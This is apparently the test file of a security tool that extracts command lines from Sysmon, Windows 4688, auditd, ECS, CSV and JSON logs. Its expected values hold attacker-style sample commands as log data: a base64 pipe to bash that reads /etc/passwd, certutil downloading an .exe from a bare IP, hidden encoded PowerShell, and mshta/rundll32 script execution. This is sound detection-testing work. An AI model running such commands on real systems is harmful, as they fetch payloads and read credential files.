"""Command lines out of log formats: every format, malformed input counted (never fatal), detection, follow."""

from __future__ import annotations

import gzip
import io
import json
import os
import sys
import threading
import time
import tracemalloc
from contextlib import contextmanager
from pathlib import Path

import pytest

from sectune.errors import SectuneError
from sectune.tasks.cmdline.logs import (
    FORMATS,
    ScanCounts,
    follow_lines,
    iter_command_lines,
    sniff_format,
)

LOGS = Path(__file__).parent / "fixtures" / "logs"


def read(name_or_path, fmt="auto", field=None, **kw):
    stats = ScanCounts()
    path = name_or_path if isinstance(name_or_path, Path) else LOGS / name_or_path
    lines = list(iter_command_lines(path, fmt, field, stats, **kw))
    return lines, stats


def wait_for(condition, timeout=5.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.01)
    return condition()


# --- auto-detection -------------------------------------------------------------------------------------------

FIXTURES = [  # (fixture in tests/fixtures/logs, the format auto-detection must pick): at least one per format
    ("process.jsonl", "jsonl"),
    ("nested.jsonl", "jsonl"),
    ("processes.csv", "csv"),
    ("ecs.ndjson", "ecs"),
    ("sysmon_lines.xml", "sysmon-xml"),
    ("sysmon_doc.xml", "sysmon-xml"),
    ("winlogbeat.ndjson", "sysmon-json"),
    ("getwinevent.json", "sysmon-json"),
    ("security_4688.txt", "win4688"),
    ("security_4688.xml", "win4688"),
    ("audit.log", "auditd"),
    ("commands.txt", "text"),
]


@pytest.mark.parametrize("name, expected", FIXTURES)
def test_auto_detection_of_each_fixture(name, expected):
    first = (LOGS / name).read_text(encoding="utf-8").splitlines()[:40]
    assert sniff_format(first, LOGS / name) == expected
    _, stats = read(name)
    assert stats.format == expected


@pytest.mark.parametrize("fmt", [f for f in FORMATS if f != "auto"])
def test_every_registered_format_is_detected_from_its_fixture_and_read(fmt):
    # a format added to the registry without a fixture in FIXTURES fails here
    names = [name for name, expected in FIXTURES if expected == fmt]
    assert names, f"no fixture for the '{fmt}' log format: add one to tests/fixtures/logs and to FIXTURES"
    found = []
    for name in names:  # (nested.jsonl needs --field: the format's fixtures together must give command lines)
        lines, stats = read(name)
        assert stats.format == fmt
        assert stats.events == len(lines)
        found += lines
    assert found and all(ln.command_line.strip() and ln.line_no >= 1 for ln in found)


def test_detection_rules_beyond_the_fixtures():
    # content wins over a misleading name, except .csv; .gz is looked through
    assert sniff_format(['{"cmd": "ls"}'], "x.log.gz") == "jsonl"
    assert sniff_format(["anything"], "x.csv.gz") == "csv"
    # a CSV header with a command-line column, whatever the name
    assert sniff_format(["Timestamp,DeviceName,ProcessCommandLine", "a,b,c"], "export.txt") == "csv"
    # a first malformed line does not hide JSON lines
    assert sniff_format(["garbage", '{"a": 1}', '{"a": 2}'], "x") == "jsonl"
    # auditd with syslog prefixes / journald numeric types
    assert sniff_format(['Nov 14 web01 audit: type=1309 audit(1700000000.1:5): argc=1 a0="ls"'], "messages") == "auditd"
    # empty sample: by name
    assert sniff_format([], "x.ndjson") == "jsonl"
    assert sniff_format(["", "  "], "x.xml") == "sysmon-xml"
    assert sniff_format(["ls -la", "cmd"], None) == "text"


# --- JSONL ------------------------------------------------------------------------------------------------------


def test_jsonl_with_a_field_counts_malformed_lines():
    lines, stats = read("process.jsonl", field="cmd")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (1, "ls -la /var/www"),
        (2, "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash"),
        (7, "ps aux --sort=-%mem"),
    ]
    assert lines[1].extra == {"host": "web01", "user": "bob"}
    assert (stats.lines_read, stats.events, stats.unparseable, stats.skipped_no_command_line) == (7, 3, 2, 1)
    assert [ln for ln, _ in stats.examples] == [4, 6]
    assert "malformed JSON" in stats.examples[0][1] and stats.examples[1][1] == "not a JSON object"
    assert stats.skipped_examples == [(5, "no field 'cmd'")]
    # without --field the usual command-line keys are tried ("cmd" is one)
    assert [ln.command_line for ln in read("process.jsonl")[0]] == [ln.command_line for ln in lines]


def test_jsonl_with_a_dotted_field():
    lines, stats = read("nested.jsonl", field="event.proc.cmdline")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (1, "whoami /all"),
        (2, 'cmd.exe /c "echo a, b"'),
        (3, "flat dotted key"),
    ]
    assert lines[0].extra == {"host": "ws01", "time": "2023-11-14T22:13:20Z"}
    assert stats.skipped_no_command_line == 1 and stats.skipped_examples[0][0] == 4
    # no --field and no known key: nothing yielded, and the reason says to pass --field
    lines, stats = read("nested.jsonl")
    assert lines == [] and stats.skipped_no_command_line == 4
    assert "pass --field" in stats.skipped_examples[0][1]


def test_json_array_on_one_line_and_braces_in_strings(tmp_path):
    path = tmp_path / "events.json"
    path.write_text(
        '[{"Id": 1, "ProviderName": "Microsoft-Windows-Sysmon", "CommandLine": "echo {[\\"}]"},'
        ' {"Id": 3, "ProviderName": "Microsoft-Windows-Sysmon"}, {"Id": 1, "CommandLine": "b\\\\"}]\n'
    )
    lines, stats = read(path)
    assert stats.format == "sysmon-json"
    assert [ln.command_line for ln in lines] == ['echo {["}]', "b\\"]
    assert stats.skipped_not_process_creation == 1


# --- CSV --------------------------------------------------------------------------------------------------------


def test_csv_quoted_commas_quotes_and_newlines():
    lines, stats = read("processes.csv")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (2, "cmd.exe /c echo hello, world"),
        (3, "powershell -c \"Write-Host 'a,b'\""),
        (5, 'cmd.exe /c "echo line one\necho line two"'),
        (10, "ipconfig /all"),
    ]
    assert lines[0].extra == {
        "host": "WS01",
        "user": "CORP\\alice",
        "process": "C:\\Windows\\System32\\cmd.exe",
        "time": "2023-11-14 22:13:20",
    }
    assert (stats.lines_read, stats.events, stats.unparseable, stats.skipped_no_command_line) == (10, 4, 2, 1)
    assert stats.examples[0] == (7, "6 fields, the header has 5")
    assert stats.examples[1][0] == 9 and "malformed CSV" in stats.examples[1][1]


def test_csv_field_matching_and_errors(tmp_path):
    path = tmp_path / "export.csv"
    path.write_text('Process Command Line,Host\n"a, b",h1\n"unterminated,h2\n')
    lines, stats = read(path, field="processcommandline")
    assert [ln.command_line for ln in lines] == ["a, b"] and lines[0].extra == {"host": "h1"}
    assert stats.examples == [(3, "quoted field never closed")]
    with pytest.raises(SectuneError, match=r"no column 'nope' \(columns: Process Command Line, Host\)"):
        read(path, field="nope")
    path.write_text("a,b\n1,2\n")
    with pytest.raises(SectuneError, match="pass --field"):
        read(path)


# --- ECS --------------------------------------------------------------------------------------------------------


def test_ecs_command_line_args_and_non_process_events():
    lines, stats = read("ecs.ndjson")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (1, "curl -s https://example.com/install.sh"),
        (2, "bash -c 'echo aGk= | base64 -d'"),  # process.args joined with shell quoting
        (7, 'C:\\Windows\\System32\\cmd.exe /c "echo a b"'),  # Windows quoting for a Windows program
    ]
    assert lines[0].extra == {
        "host": "web01",
        "user": "alice",
        "process": "/usr/bin/curl",
        "parent_process": "/usr/bin/bash",
        "time": "2023-11-14T22:13:20.000Z",
    }
    assert (stats.skipped_not_process_creation, stats.skipped_no_command_line, stats.unparseable) == (2, 1, 1)
    assert [ln for ln, _ in stats.skipped_examples] == [3, 4, 5]
    assert stats.examples[0][0] == 6


# --- Sysmon -----------------------------------------------------------------------------------------------------


def test_sysmon_xml_one_event_per_line():
    lines, stats = read("sysmon_lines.xml")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (1, 'cmd.exe /c "whoami & hostname"'),
        (2, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
        (6, "net.exe user /domain"),  # two events on one line
        (6, "nltest /dclist:corp"),
    ]
    assert lines[0].extra == {
        "host": "WS01.corp.example",
        "user": "CORP\\alice",
        "process": "C:\\Windows\\System32\\cmd.exe",
        "parent_process": "C:\\Windows\\explorer.exe",
        "parent_command_line": "C:\\Windows\\Explorer.EXE",
        "time": "2023-11-14T22:13:20.1234567Z",
        "event_id": 1,
    }
    assert (stats.lines_read, stats.events, stats.skipped_not_process_creation, stats.unparseable) == (6, 4, 1, 2)
    assert stats.examples[0][0] == 3 and "malformed XML" in stats.examples[0][1]
    assert stats.examples[1] == (5, "text outside an <Event> element")
    assert stats.skipped_examples == [(4, "EventID 5 (Microsoft-Windows-Sysmon)")]


def test_sysmon_xml_multi_line_document():
    lines, stats = read("sysmon_doc.xml")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (3, 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)')
    ]
    assert lines[0].extra["user"] == "CORP\\dave"
    assert stats.skipped_not_process_creation == 1 and stats.skipped_examples[0][0] == 17
    assert stats.unparseable == 0  # the <?xml?> declaration and <Events> root are not junk


def test_sysmon_json_winlogbeat_style():
    lines, stats = read("winlogbeat.ndjson")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (1, 'cmd.exe /c "whoami /priv"'),
        (4, "certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe"),
        (5, 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)'),
    ]
    assert lines[0].extra["host"] == "WS01.corp.example" and lines[0].extra["user"] == "CORP\\alice"
    assert stats.skipped_not_process_creation == 1 and stats.skipped_examples[0] == (
        2,
        "EventID 3 (Microsoft-Windows-Sysmon)",
    )
    assert stats.unparseable == 2 and [ln for ln, _ in stats.examples] == [3, 6]
    assert stats.examples[1][1] == "no EventID"


def test_sysmon_json_get_winevent_pretty_array():
    lines, stats = read("getwinevent.json")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (2, 'cmd.exe /c "ping -n 1 10.0.0.1 {x}"'),
        (16, 'wmic process call create "calc [1]"'),
    ]
    assert lines[0].extra["time"] == "2023-11-14T22:13:20.120Z"  # /Date(ms)/ converted
    assert stats.skipped_not_process_creation == 1 and stats.unparseable == 0


# --- Windows 4688 -----------------------------------------------------------------------------------------------


def test_4688_text_export_blocks():
    lines, stats = read("security_4688.txt")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (2, 'cmd.exe /c "echo hi: there" & whoami'),
        (61, "powershell -nop -enc SQBFAFgA"),
    ]
    assert lines[0].extra == {
        "host": "WS01.corp.example",
        "user": "CORP\\alice",
        "process": "C:\\Windows\\System32\\cmd.exe",
        "parent_process": "C:\\Windows\\explorer.exe",
        "time": "2023-11-14T22:13:20.1230000Z",
        "event_id": 4688,
    }
    assert stats.skipped_not_process_creation == 1 and stats.skipped_no_command_line == 1
    assert [ln for ln, _ in stats.skipped_examples] == [42, 101]
    assert stats.examples == [(1, "text outside an event block (expected 'Event[N]:')")]


def test_4688_xml():
    lines, stats = read("security_4688.xml")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [(2, 'cmd.exe /c "c^e^r^t^u^t^i^l -decode a.b64 a.exe"')]
    assert lines[0].extra["user"] == "CORP\\alice" and lines[0].extra["event_id"] == 4688
    assert (stats.skipped_not_process_creation, stats.skipped_no_command_line) == (1, 1)
    assert stats.examples == [(5, "<Event> element never closed")]
    # the same file read as sysmon-xml gives the same events: one Windows event reader
    assert [ln.command_line for ln in read("security_4688.xml", "sysmon-xml")[0]] == [ln.command_line for ln in lines]


# --- auditd -----------------------------------------------------------------------------------------------------


def test_auditd_hex_split_args_and_multi_record_events():
    lines, stats = read("audit.log")
    assert [(ln.line_no, ln.command_line) for ln in lines] == [
        (1, "ls '-la /tmp/my dir' /home"),
        (7, "bash -c 'echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash'"),
        (14, "cat /etc/passwd"),
    ]
    assert lines[0].extra["argv"] == ["ls", "-la /tmp/my dir", "/home"]  # a1 was hex
    assert lines[0].extra["cwd"] == "/home/alice" and lines[0].extra["process"] == "/usr/bin/ls"
    assert lines[0].extra["time"] == "2023-11-14T22:13:20.123Z" and lines[0].extra["user"] == "1000"
    # a2_len=44 + a2[0]/a2[1] on a second EXECVE line, with PATH records in between
    assert lines[1].extra["argv"][2] == "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash"
    assert lines[2].extra["host"] == "web01"
    assert stats.skipped_not_process_creation == 1 and stats.skipped_examples[0][0] == 12
    assert stats.unparseable == 2 and [ln for ln, _ in stats.examples] == [13, 15]
    assert "argument a2 missing" in stats.examples[1][1]


def test_auditd_interpreted_output_is_not_hex_decoded(tmp_path):
    path = tmp_path / "ausearch.txt"
    path.write_text("----\ntype=EXECVE msg=audit(11/14/2023 22:13:20.123:456) : argc=2 a0=ls a1=deadbeef\n")
    lines, stats = read(path)
    assert stats.format == "auditd" and [ln.command_line for ln in lines] == ["ls deadbeef"]
    assert stats.unparseable == 0


# --- plain text, gzip, stdin, encodings ---------------------------------------------------------------------


def test_plain_text():
    lines, stats = read("commands.txt")
    assert [ln.line_no for ln in lines] == [1, 2, 4, 5, 8, 9]
    assert lines[2].command_line == "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash"  # CRLF stripped
    assert stats.examples == [(7, "binary data (NUL byte)")] and stats.lines_read == 9


def test_gzip_input(tmp_path):
    for name in ("sysmon_lines.xml", "audit.log"):
        gz = tmp_path / (name + ".gz")
        gz.write_bytes(gzip.compress((LOGS / name).read_bytes()))
        got, stats = read(gz)
        want, want_stats = read(name)
        assert [(ln.line_no, ln.command_line) for ln in got] == [(ln.line_no, ln.command_line) for ln in want]
        assert stats.format == want_stats.format and stats.unparseable == want_stats.unparseable
    bad = tmp_path / "bad.txt.gz"
    bad.write_bytes(b"not gzip at all")
    with pytest.raises(SectuneError, match="not a valid gzip file"):
        read(bad)


def test_stdin(monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO((LOGS / "process.jsonl").read_bytes())))
    lines, stats = read(Path("-"))
    assert stats.format == "jsonl" and [ln.line_no for ln in lines] == [1, 2, 7]


def test_utf16_and_bad_bytes_are_not_fatal(tmp_path):
    path = tmp_path / "ps5.txt"
    path.write_bytes("whoami\r\nnet user\r\n".encode("utf-16"))  # BOM + UTF-16LE, as PowerShell 5 writes
    assert [ln.command_line for ln in read(path)[0]] == ["whoami", "net user"]
    path.write_bytes(b"ls \xff\xfe -la\nok\n")
    lines, stats = read(path)
    assert [ln.command_line for ln in lines] == ["ls \ufffd\ufffd -la", "ok"] and stats.unparseable == 0


def test_usage_errors_are_sectune_errors(tmp_path):
    with pytest.raises(SectuneError, match="no such file"):
        read(tmp_path / "missing.log")
    with pytest.raises(SectuneError, match="unknown log format 'evtx'"):
        read("commands.txt", "evtx")
    with pytest.raises(SectuneError, match="--field applies to"):
        read("commands.txt", "text", field="x")
    with pytest.raises(SectuneError, match="looks like auditd"):
        read("audit.log", field="x")
    assert "auto" in FORMATS and len(FORMATS) == 9


# --- follow -----------------------------------------------------------------------------------------------------


def test_follow_lines_appends_partial_lines_truncation_and_rotation(tmp_path):
    path = tmp_path / "grow.log"
    path.write_text("a\nb\n")
    stop, got = threading.Event(), []
    thread = threading.Thread(target=lambda: got.extend(follow_lines(path, stop, poll=0.02)))
    thread.start()
    try:
        assert wait_for(lambda: got == ["a", "b"])
        with open(path, "a") as fh:
            fh.write("c\npart")
        assert wait_for(lambda: "c" in got)
        time.sleep(0.1)
        assert "part" not in got  # an incomplete line waits for its newline
        with open(path, "a") as fh:
            fh.write("ial\n")
        assert wait_for(lambda: "partial" in got)
        path.write_text("x\n")  # truncated in place (copytruncate)
        assert wait_for(lambda: "x" in got)
        os.rename(path, tmp_path / "grow.log.1")  # rotated
        path.write_text("new\n")
        assert wait_for(lambda: "new" in got)
    finally:
        stop.set()
        thread.join(5)
    assert not thread.is_alive()
    assert got == ["a", "b", "c", "partial", "x", "new"]


@contextmanager
def following(path: Path, fmt: str, stats: ScanCounts):
    """``iter_command_lines(follow=True)`` in a thread; gives the list it fills; stops and joins it on exit."""
    stop, got = threading.Event(), []
    thread = threading.Thread(
        target=lambda: got.extend(iter_command_lines(path, fmt, stats=stats, follow=True, stop=stop, poll=0.02))
    )
    thread.start()
    try:
        yield got
    finally:
        stop.set()
        thread.join(5)
    assert not thread.is_alive()


def test_follow_auditd_emits_an_event_when_the_file_goes_idle(tmp_path):
    path = tmp_path / "audit.log"
    path.write_text("")
    stats = ScanCounts()
    with following(path, "auditd", stats) as got:
        with open(path, "a") as fh:
            fh.write('type=EXECVE msg=audit(1700000000.1:9): argc=2 a0="id" a1="-u"\n')
        # no EOE, no next serial: the idle flush emits the complete event
        assert wait_for(lambda: [ln.command_line for ln in got] == ["id -u"])
    assert stats.events == 1


def test_follow_csv_takes_the_new_header_after_rotation(tmp_path):
    # the rotated-in file has other columns: its rows must be read by its own header, not the old one's
    path = tmp_path / "procs.csv"
    path.write_text("CommandLine,User,Host\nls,alice,h1\n")
    stats = ScanCounts()
    with following(path, "csv", stats) as got:
        assert wait_for(lambda: stats.events == 1)
        os.rename(path, tmp_path / "procs.csv.1")
        path.write_text("CommandLine,Host\nid,h2\n")
        assert wait_for(lambda: stats.events == 2)
    assert [(ln.line_no, ln.command_line, ln.extra) for ln in got] == [
        (2, "ls", {"user": "alice", "host": "h1"}),
        (2, "id", {"host": "h2"}),
    ]
    assert stats.unparseable == 0


def test_follow_refuses_gzip(tmp_path):
    gz = tmp_path / "x.log.gz"
    gz.write_bytes(gzip.compress(b"ls\n"))
    with pytest.raises(SectuneError, match="cannot follow a .gz file"):
        read(gz, follow=True)


# --- over-long lines --------------------------------------------------------------------------------------------

CAP = 100


def too_long(cap: int = CAP) -> str:
    return f"line longer than {cap:,} characters (--max-line-chars)"


def _open_as(source: str, tmp_path: Path, data: bytes, monkeypatch) -> tuple[Path, dict]:
    """``data`` as the given kind of input: the path to read and the keyword arguments that go with it."""
    if source == "gz":
        path = tmp_path / "log.txt.gz"
        path.write_bytes(gzip.compress(data, compresslevel=1))
        return path, {}
    if source.startswith("stdin"):
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
        follow = source == "stdin-follow"
        return Path("-"), {"follow": True, "stop": threading.Event(), "poll": 0.02} if follow else {}
    path = tmp_path / "log.txt"
    path.write_bytes(data)
    if source == "follow":  # stop already set: read what is there, then end
        stop = threading.Event()
        stop.set()
        return path, {"follow": True, "stop": stop, "poll": 0.02}
    return path, {}


@pytest.mark.parametrize("source", ["plain", "gz", "stdin", "stdin-follow", "follow"])
def test_over_long_lines_are_skipped_and_counted_from_every_source(tmp_path, monkeypatch, source):
    # 200,000 characters: more than one read chunk, so the rest of the line is passed over piece by piece
    data = ("ls -la\n" + "x" * 200_000 + "\n" + "y" * CAP + "\n" + "whoami\n" + "z" * (CAP + 1)).encode()
    path, kw = _open_as(source, tmp_path, data, monkeypatch)
    lines, stats = read(path, "text", max_line_chars=CAP, **kw)
    assert [(ln.line_no, ln.command_line) for ln in lines] == [(1, "ls -la"), (3, "y" * CAP), (4, "whoami")]
    assert (stats.lines_read, stats.events, stats.skipped_too_long, stats.unparseable) == (5, 3, 2, 0)
    assert stats.skipped_examples == [(2, too_long()), (5, too_long())]
    assert stats.skipped["line too long"] == 2


@pytest.mark.parametrize("source", ["plain", "gz", "stdin", "follow"])
def test_a_huge_line_is_never_held_in_memory(tmp_path, monkeypatch, source):
    size = 32 << 20
    data = b"whoami\npowershell -enc " + b"A" * size + b"\nhostname\n"
    path, kw = _open_as(source, tmp_path, data, monkeypatch)
    del data
    stats = ScanCounts()
    tracemalloc.start()
    try:
        got = [ln.command_line for ln in iter_command_lines(path, "text", stats=stats, **kw)]  # the default cap
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 << 20, f"peak {peak:,} bytes reading a {size:,}-character line"
    assert got == ["whoami", "hostname"] and stats.skipped_too_long == 1


def _sysmon_event(cmd: str) -> str:
    return (
        '  <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">\n'
        '    <System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>1</EventID></System>\n'
        "    <EventData>\n"
        f'      <Data Name="CommandLine">{cmd}</Data>\n'
        "    </EventData>\n"
        "  </Event>\n"
    )


def test_an_over_long_line_drops_its_xml_event_and_no_other(tmp_path):
    path = tmp_path / "doc.xml"
    path.write_text(
        '<?xml version="1.0"?>\n<Events>\n'
        + _sysmon_event("whoami")
        + _sysmon_event("A" * 500)
        + _sysmon_event("net user")
        + "</Events>\n"
    )
    lines, stats = read(path, max_line_chars=CAP)
    assert stats.format == "sysmon-xml"
    assert [(ln.line_no, ln.command_line) for ln in lines] == [(3, "whoami"), (15, "net user")]
    # the dropped event's last lines (</EventData>, </Event>) are passed over, not reported as junk
    assert (stats.skipped_too_long, stats.unparseable, stats.skipped_examples) == (1, 0, [(12, too_long())])
    # one event a line: the next line starts afresh
    path.write_text("".join(_sysmon_event(c).replace("\n", "") + "\n" for c in ("a", "B" * 500, "c")))
    lines, stats = read(path, max_line_chars=CAP + 200)
    assert [(ln.line_no, ln.command_line) for ln in lines] == [(1, "a"), (3, "c")]
    assert (stats.skipped_too_long, stats.unparseable) == (1, 0)


def test_an_over_long_line_drops_its_4688_block_and_no_other(tmp_path):
    text = (LOGS / "security_4688.txt").read_text(encoding="utf-8")
    path = tmp_path / "security.txt"
    path.write_text(text.replace('cmd.exe /c "echo hi: there" & whoami', "C" * 1000))
    lines, stats = read(path, max_line_chars=200)  # the fixture's longest line has 134 characters
    assert [(ln.line_no, ln.command_line) for ln in lines] == [(61, "powershell -nop -enc SQBFAFgA")]
    assert stats.skipped_too_long == 1 and stats.skipped_examples[0] == (36, too_long(200))
    assert stats.lines_read == len(text.splitlines())
    assert stats.examples == [(1, "text outside an event block (expected 'Event[N]:')")]  # nothing new


def test_an_over_long_line_in_a_quoted_csv_record_drops_the_whole_record(tmp_path):
    path = tmp_path / "p.csv"
    # record 2 spans three lines; its middle one is over-long, with a quote ("") inside it
    path.write_text('CommandLine,Host\nls,h1\n"echo one\n' + "D" * 300 + ' ""x"" and on\n"" tail",h2\nwhoami,h3\n')
    lines, stats = read(path, max_line_chars=CAP)
    assert [(ln.line_no, ln.command_line) for ln in lines] == [(2, "ls"), (6, "whoami")]
    assert (stats.skipped_too_long, stats.unparseable, stats.lines_read) == (1, 0, 6)
    # an over-long record on one line
    path.write_text('CommandLine,Host\n"' + "E" * 300 + '",h1\nid,h2\n')
    lines, stats = read(path, max_line_chars=CAP)
    assert [ln.command_line for ln in lines] == ["id"] and (stats.skipped_too_long, stats.unparseable) == (1, 0)


def test_an_over_long_line_in_a_json_document_loses_only_its_object(tmp_path):
    path = tmp_path / "events.json"
    records = [
        {"Id": 1, "ProviderName": "Microsoft-Windows-Sysmon", "CommandLine": cmd} for cmd in ("a", "F" * 500, "c")
    ]
    path.write_text(json.dumps(records, indent=2) + "\n")
    lines, stats = read(path, max_line_chars=CAP)
    assert stats.format == "sysmon-json" and [ln.command_line for ln in lines] == ["a", "c"]
    assert (stats.skipped_too_long, stats.unparseable) == (1, 0)


def test_an_over_long_auditd_line_leaves_the_other_events_be(tmp_path):
    path = tmp_path / "audit.log"
    path.write_text(
        'type=EXECVE msg=audit(1700000000.1:1): argc=1 a0="id"\n'
        + "type=UNKNOWN msg=audit(1700000000.2:2): "
        + "G" * 500
        + "\n"
        + 'type=EXECVE msg=audit(1700000000.3:3): argc=2 a0="ls" a1="-l"\n'
    )
    lines, stats = read(path, "auditd", max_line_chars=CAP)
    assert [(ln.line_no, ln.command_line) for ln in lines] == [(1, "id"), (3, "ls -l")]
    assert (stats.skipped_too_long, stats.unparseable) == (1, 0)


def test_follow_passes_over_a_long_line_written_in_pieces(tmp_path):
    path = tmp_path / "grow.log"
    path.write_text("a\n" + "x" * 150)
    stop, got = threading.Event(), []
    thread = threading.Thread(target=lambda: got.extend(follow_lines(path, stop, poll=0.02, max_line_chars=CAP)))
    thread.start()
    try:
        assert wait_for(lambda: got == ["a"])
        with open(path, "a") as fh:
            fh.write("x" * 150)
        time.sleep(0.1)
        with open(path, "a") as fh:
            fh.write("x\nb\n")
        assert wait_for(lambda: got == ["a", "b"])
    finally:
        stop.set()
        thread.join(5)
    assert not thread.is_alive() and got == ["a", "b"]


def test_the_line_cap_must_be_positive():
    with pytest.raises(SectuneError, match="--max-line-chars must be at least 1"):
        read("commands.txt", max_line_chars=0)
